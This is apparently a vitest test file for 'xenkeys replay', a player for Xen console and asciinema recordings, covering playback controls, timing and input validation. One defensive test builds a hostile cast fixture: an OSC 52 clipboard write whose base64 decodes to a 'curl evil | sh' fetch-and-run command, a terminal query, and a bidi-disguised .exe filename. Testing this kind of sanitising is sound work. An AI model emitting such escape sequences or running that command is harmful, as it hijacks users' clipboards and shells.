// `xenkeys replay`: the TUI player on a real recording (pause, speed, markers, the jump menu and
// the side panel re-cut from the recording), and --no-tui playback to stdout — exact bytes, real
// time or --speed — for xenkeys' casts and asciinema's v1/v3 files alike.

import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { BIN, ROOT, TuiDriver } from '../helpers/tui-driver.js';

const RECORDING = join(ROOT, 'recordings/xen-4.17-boot-and-keys');
const dir = mkdtempSync(join(tmpdir(), 'xenkeys-replay-'));
let driver: TuiDriver | null = null;

afterEach(() => {
  driver?.kill();
  driver = null;
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** Runs `xenkeys replay … --no-tui` with stdout a pipe; resolves with its bytes and run time. */
function playPlain(args: string[]): Promise<{ stdout: Buffer; stderr: string; ms: number; code: number }> {
  const started = performance.now();
  return new Promise((resolve, reject) => {
    execFile(
      process.execPath,
      [BIN, 'replay', ...args],
      { encoding: 'buffer', maxBuffer: 64 << 20 },
      (error, stdout, stderr) => {
        const code = error ? Number((error as { code?: number }).code ?? 1) : 0;
        if (error && code === 0) return reject(error);
        resolve({ stdout, stderr: stderr.toString(), ms: performance.now() - started, code });
      },
    );
  });
}

describe('xenkeys replay in the TUI', () => {
  it('pauses, changes speed, steps through markers and jumps to a key', async () => {
    const d = (driver = TuiDriver.spawn(['replay', join(RECORDING, 'session.cast')], {
      cols: 110,
      rows: 32,
    }));
    await d.waitForStatus(/▶ playing 1×/);
    expect(d.screenText().split('\n')[0]).toMatch(/replay · session\.cast · xenkeys capture: tcp/);
    d.press(' ');
    await d.waitForStatus(/⏸ paused 1×/);
    d.press('++');
    await d.waitForStatus(/⏸ paused 4×/);
    d.press('-');
    await d.waitForStatus(/⏸ paused 2×/);
    d.press('g'); // back to the start, however far it got before the pause
    await d.waitForStatus(/⏸ paused 2× │ 0\.0 \//);
    d.press('n');
    // The first marker: Xen handing input to dom0 at the end of the boot.
    await d.waitForStatus(/input: DOM0 .*marker: input dom0/);
    await d.waitForScreen(/\*\*\* Serial input to DOM0/);
    d.press('j');
    await d.waitForScreen(/jump to a key[\s\S]*key 0: dump Dom0 registers/);
    d.press('q');
    const screen = await d.waitForScreen(/side panel[\s\S]*key q: dump domain[\s\S]*lines +27/);
    expect(screen).toMatch(/General information for domain/);
    await d.waitForStatus(/input: XEN .*marker: key q: dump domain/);
    await d.waitForScreen(/'q' pressed -> dumping domain info/);
    d.press('N');
    await d.waitForStatus(/marker: key n: NMI statistics/);
    d.press('q');
    expect((await d.waitForExit()).exitCode).toBe(0);
  });

  it('plays an asciinema v3 recording', async () => {
    const file = join(dir, 'v3.cast');
    writeFileSync(
      file,
      [
        '{"version": 3, "term": {"cols": 80, "rows": 24}}',
        '[0.1, "o", "\\u001b[1;32mhello\\u001b[0m "]',
        '# a comment',
        '[0.2, "o", "world\\r\\n"]',
        '[0.1, "x", "0"]',
        '',
      ].join('\n'),
    );
    const d = (driver = TuiDriver.spawn(['replay', file]));
    await d.waitForScreen(/^hello world$/m);
    await d.waitForStatus(/input: \? .*■ end/);
    // The colour came through xterm's parser into the pane: 'hello' is green (palette 2).
    const cell = d.term.buffer.active.getLine(1)?.getCell(0);
    expect(cell?.getChars()).toBe('h');
    expect(cell?.isFgPalette() && cell.getFgColor()).toBe(2);
    d.press('\x1dq');
    expect((await d.waitForExit()).exitCode).toBe(0);
  });
});

describe('xenkeys replay --no-tui', () => {
  it('writes exactly the recorded bytes at --speed max with --raw', async () => {
    const args = [join(RECORDING, 'session.cast'), '--no-tui', '--speed', 'max', '--raw'];
    const { stdout, code } = await playPlain(args);
    expect(code).toBe(0);
    expect(stdout.equals(readFileSync(join(RECORDING, 'session.raw')))).toBe(true);
  });

  it('without --raw drops only what would act on the terminal: the DSR queries dom0 sent', async () => {
    // Real Xen 4.17 lab recording: busybox's shell asks the terminal for the cursor position (ESC[6n)
    // at each prompt; a terminal replaying that would answer into the user's shell.
    const raw = readFileSync(join(RECORDING, 'session.raw'), 'latin1');
    expect(raw).toContain('\x1b[6n');
    const { stdout, code } = await playPlain([join(RECORDING, 'session.cast'), '--no-tui', '--speed', 'max']);
    expect(code).toBe(0);
    expect(stdout.toString('latin1')).toBe(raw.replaceAll('\x1b[6n', ''));
  });

  it('plays a hostile cast safely: no clipboard write, no query, bidi spelled out; --raw passes it all', async () => {
    const file = join(dir, 'hostile.cast');
    const events = [
      [0.1, 'o', '\x1b[1;32m(XEN) ok\x1b[0m\r\n'],
      [0.2, 'o', 'copy \x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07me\r\n'],
      [0.3, 'o', 'where am I\x1b[6n?\r\n'],
      [0.4, 'o', 'invoice\u202Efdp.exe\r\n'],
    ];
    writeFileSync(
      file,
      [JSON.stringify({ version: 2, width: 80, height: 24 }), ...events.map((e) => JSON.stringify(e))].join(
        '\n',
      ),
    );
    const safe = (await playPlain([file, '--no-tui', '--speed', 'max'])).stdout.toString();
    expect(safe).toBe('\x1b[1;32m(XEN) ok\x1b[0m\r\ncopy me\r\nwhere am I?\r\ninvoice\\u202efdp.exe\r\n');
    const raw = (await playPlain([file, '--no-tui', '--speed', 'max', '--raw'])).stdout.toString();
    expect(raw).toBe(events.map((e) => e[2]).join(''));
  });

  it('plays asciinema v1 and v3 files', async () => {
    const v1 = join(dir, 'v1.json');
    writeFileSync(
      v1,
      JSON.stringify({
        version: 1,
        width: 80,
        height: 24,
        duration: 0.3,
        stdout: [
          [0.1, 'one '],
          [0.2, 'two\r\n'],
        ],
      }),
    );
    const v3 = join(dir, 'v3-plain.cast');
    writeFileSync(
      v3,
      '{"version": 3, "term": {"cols": 80, "rows": 24}}\n[0.05, "o", "three "]\n[0.05, "o", "four"]\n',
    );
    expect((await playPlain([v1, '--no-tui', '--speed', 'max'])).stdout.toString()).toBe('one two\r\n');
    expect((await playPlain([v3, '--no-tui', '--speed', 'max'])).stdout.toString()).toBe('three four');
  });

  it('keeps the recorded timing in real time, and divides it with --speed', async () => {
    const file = join(dir, 'timed.cast');
    writeFileSync(file, '{"version": 2, "width": 80, "height": 24}\n[0, "o", "a"]\n[0.6, "o", "b"]\n');
    const real = await playPlain([file, '--no-tui']);
    expect(real.stdout.toString()).toBe('ab');
    expect(real.ms).toBeGreaterThanOrEqual(600);
    const fast = await playPlain([file, '--no-tui', '--speed', '3']);
    expect(fast.stdout.toString()).toBe('ab');
    expect(fast.ms).toBeGreaterThanOrEqual(200);
  });

  it('refuses a crafted cast with absurd event times instead of spinning forever', async () => {
    const file = join(dir, 'crafted.cast');
    writeFileSync(file, '{"version": 3, "term": {"cols": 80, "rows": 24}}\n[1e308, "o", "x"]\n');
    const { code, stderr } = await playPlain([file, '--no-tui']);
    expect(code).toBe(14);
    expect(stderr).toMatch(/crafted\.cast line 2: event time .* not a plausible recording time/);
  });

  it('says what is wrong with a missing file', async () => {
    const { code } = await playPlain([join(dir, 'nope.cast'), '--no-tui']);
    expect(code).toBe(14);
  });
});
